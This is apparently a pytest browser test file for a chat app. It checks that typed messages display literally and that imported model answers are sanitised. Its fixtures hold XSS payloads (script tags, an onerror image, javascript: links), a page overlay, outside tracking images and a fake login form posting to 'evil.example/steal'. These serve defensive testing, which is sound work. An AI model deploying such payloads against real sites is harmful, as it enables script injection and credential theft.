"""Text shows as text (issue 8), through the real page in headless chromium.

A user's message shows exactly as typed and reaches the model (and an edit) as typed; imported
model answers keep their Markdown (table, code, LaTeX) but no HTML in them can cover the page,
post a form, load an outside resource or run a script. Outside loads are caught by a route
that sees only requests leaving the browser: a load the Content-Security-Policy blocks never
gets there (Playwright still reports it as a "request" that failed with "csp").
"""

from __future__ import annotations

import json
import re
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from app.transcript import FORMAT, TRANSCRIPT_NAME, VERSION
from tests.browser import browser_page, screenshot, send, wait_answers, wait_ready
from tests.conftest import Recording

pytestmark = pytest.mark.browser

USER = "[data-testid='user']"
BOT = "[data-testid='bot']"
TYPED = (
    "<b>bold?</b> *star* $x$ 1 < 2 && a_b_c <script>alert(1)</script> <img src=x onerror=alert(2)>"
)
OUTSIDE_HOST = "203.0.113."  # TEST-NET-3: never a real host
# A pattern, not a Python predicate: a predicate stalls every request of the page until Python
# next calls Playwright (and so stalls the chat's queue).
OUTSIDE = re.compile(r"^https?://203\.0\.113\.")
ANSWERS = [
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;'
    'z-index:9999">OVERLAY</div>',
    '<form action="https://evil.example/steal"><input name="pw"><button>Login</button></form>',
    f'<img src="http://{OUTSIDE_HOST}5/track.png"> and ![t](http://{OUTSIDE_HOST}6/md.png)',
    '<svg><a href="javascript:alert(\'svg\')"><text x="0" y="20">svg-link</text></a></svg>'
    " [md-link](javascript:alert('md'))",
    '| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint("<b>x</b>")\n```\n\n'
    "Inline `<i>code</i>` and $$x^2 < y$$",
]
CORNERS_IN_A_MESSAGE = """() => {
    const [w, h] = [innerWidth - 1, innerHeight - 1];
    return [[0, 0], [w, 0], [0, h], [w, h]].some(([x, y]) =>
        document.elementFromPoint(x, y)?.closest("#chatbot .message-content"));
}"""
FIXED_IN_MESSAGES = """() => [...document.querySelectorAll("#chatbot .message-content *")]
    .filter(e => getComputedStyle(e).position === "fixed").map(e => e.outerHTML)"""
CONTAINMENTS = """() => [...document.querySelectorAll("#chatbot .message-content")]
    .map(e => getComputedStyle(e).contain)"""


class Watched(NamedTuple):
    """A page with what it did: dialogs opened, requests that left for OUTSIDE, headers."""

    page: object
    dialogs: list[str]
    outside: list[str]
    headers: dict[str, str]


def watch(page) -> Watched:
    """Record the page's dialogs (dismissed) and its requests to OUTSIDE (aborted); reload it."""
    dialogs: list[str] = []
    outside: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.route(OUTSIDE, lambda route: (outside.append(route.request.url), route.abort()))
    document = page.reload()
    wait_ready(page)
    return Watched(page, dialogs, outside, document.headers)


def conversation_zip(path: Path) -> Path:
    """A conversation file (app.transcript's format): TYPED, then each of ANSWERS asked for."""
    questions = [TYPED] + [f"Question {n}" for n in range(2, len(ANSWERS) + 1)]
    messages = []
    for question, answer in zip(questions, ANSWERS, strict=True):
        messages += [
            {"role": "user", "content": question},
            {"role": "assistant", "content": answer},
        ]
    document = {"format": FORMAT, "version": VERSION, "messages": messages}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr(TRANSCRIPT_NAME, json.dumps(document))
    return path


def asked_text(recording: Recording) -> str:
    """The text of the last user message the model was asked."""
    content = recording.requests[-1].messages[-1]["content"]
    return "".join(part["text"] for part in content if part["type"] == "text")


def wait_for_requests(recording: Recording, count: int, timeout: float = 30) -> None:
    deadline = time.monotonic() + timeout
    while len(recording.requests) < count and time.monotonic() < deadline:
        time.sleep(0.05)
    assert len(recording.requests) >= count


def open_edit_box(page):
    """Click Edit on the last user message; its edit box."""
    page.locator(USER).last.hover()
    page.get_by_role("button", name="Edit").click()
    box = page.locator("textarea.edit-textarea")
    box.wait_for()
    page.wait_for_timeout(300)  # EDIT_BOX_SCRIPT rewrites the box as it opens
    return box


@pytest.fixture(scope="class")
def typed(app) -> Iterator[Watched]:
    """A page where TYPED was sent and answered."""
    url, _ = app
    with browser_page(url) as page:
        watched = watch(page)
        send(page, TYPED)
        wait_answers(page, 1)
        screenshot(page, "text_user_message")
        yield watched


@pytest.fixture(scope="class")
def imported(app, tmp_path_factory) -> Iterator[Watched]:
    """A page where the conversation of ANSWERS was imported."""
    url, _ = app
    archive = conversation_zip(tmp_path_factory.mktemp("text") / "answers.zip")
    with browser_page(url) as page:
        watched = watch(page)
        page.locator("#conversation-file input[type=file]").set_input_files(str(archive))
        page.wait_for_function(
            f"n => document.querySelectorAll(`{BOT}`).length >= n", arg=len(ANSWERS)
        )
        page.locator("#chatbot .katex").first.wait_for()
        page.wait_for_timeout(500)  # images start loading
        screenshot(page, "text_imported_answers_end")
        page.locator("#chatbot [role=log]").evaluate("log => log.scrollTo(0, 0)")
        screenshot(page, "text_imported_answers_start")
        yield watched


class TestATypedMessage:
    """TYPED, sent from the input box, then edited."""

    def test_shows_and_reaches_the_model_as_typed(self, typed, app):
        assert typed.page.locator(USER).last.inner_text() == TYPED
        assert typed.dialogs == []
        assert asked_text(app[1]) == TYPED

    def test_the_edit_box_holds_the_typed_text(self, typed):
        box = open_edit_box(typed.page)
        shown = box.input_value()
        screenshot(typed.page, "text_edit_box")
        typed.page.locator(".message-wrap").get_by_role("button", name="Cancel").click()
        assert shown == TYPED

    def test_an_unchanged_edit_resends_the_typed_text(self, typed, app):
        recording = app[1]
        asked = len(recording.requests)
        open_edit_box(typed.page)
        typed.page.locator(".message-wrap").get_by_role("button", name="Submit").click()
        wait_for_requests(recording, asked + 1)
        wait_answers(typed.page, 1)
        screenshot(typed.page, "text_after_edit")
        assert asked_text(recording) == TYPED
        assert typed.page.locator(USER).last.inner_text() == TYPED
        assert typed.dialogs == []


class TestImportedAnswers:
    """A conversation file whose answers hold HTML attacks and legitimate Markdown."""

    def test_the_page_has_a_content_security_policy(self, imported):
        assert "content-security-policy" in imported.headers

    def test_a_user_message_shows_as_typed(self, imported):
        assert imported.page.locator(USER).first.inner_text() == TYPED

    def test_nothing_covers_the_page(self, imported):
        page = imported.page
        assert not page.evaluate(CORNERS_IN_A_MESSAGE), "a message reaches a window corner"
        assert page.evaluate(FIXED_IN_MESSAGES) == []
        assert set(page.evaluate(CONTAINMENTS)) == {"paint"}

    def test_no_form_no_html_image_and_no_outside_request(self, imported):
        page = imported.page
        for selector in ("form", "input[name=pw]", f"img[src^='http://{OUTSIDE_HOST}5']"):
            assert page.locator(f"#chatbot {selector}").count() == 0, selector
        assert imported.outside == [], "a request left the browser for an outside host"

    def test_no_markdown_image_of_an_outside_host(self, imported):
        assert imported.page.locator(f"#chatbot img[src*='{OUTSIDE_HOST}']").count() == 0

    def test_links_run_no_script(self, imported):
        page = imported.page
        assert page.locator("#chatbot svg a, #chatbot a[href^='javascript:' i]").count() == 0
        for text in ("svg-link", "md-link"):
            for element in page.locator("#chatbot").get_by_text(text).all():
                element.click()
        page.wait_for_timeout(300)
        assert imported.dialogs == []

    def test_markdown_still_renders(self, imported):
        page = imported.page
        assert page.locator("#chatbot table th").all_inner_texts() == ["a", "b"]
        assert 'print("<b>x</b>")' in page.locator("#chatbot pre code").first.inner_text()
        assert "<i>code</i>" in page.locator("#chatbot p code").all_inner_texts()
        formula = page.locator("#chatbot .katex-html").first.inner_text()
        assert "<" in formula and "&lt;" not in formula, formula
        for answer in page.locator(BOT).all_inner_texts():
            assert "&lt;" not in answer and "&amp;" not in answer, answer
